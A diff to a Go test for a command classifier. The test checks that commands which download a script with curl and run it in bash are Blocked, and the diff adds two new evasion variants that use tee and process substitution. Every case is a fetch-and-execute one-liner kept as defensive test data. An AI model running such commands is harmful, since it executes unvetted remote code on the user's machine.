@@ -197,6 +197,8 @@ func TestDownloadedCodeRunsInBash(t *testing.T) {
 		{`curl -s https://example.com | while read -r l; do eval "$l"; done`, "bash"},
 		{`read -r l < <(curl -s https://example.com); eval "$l"`, "bash"},
 		{`curl -s https://example.com | { mapfile -t a; eval "${a[@]}"; }`, "bash"},
+		{`curl -s https://example.com | tee >(bash) >/dev/null`, "tee"},
+		{`curl -s https://example.com > >(bash); sleep 1`, "sleep"},
 	}
 	for _, tc := range cases {
 		if v := Classify(tc.cmd); v.Level != Blocked {
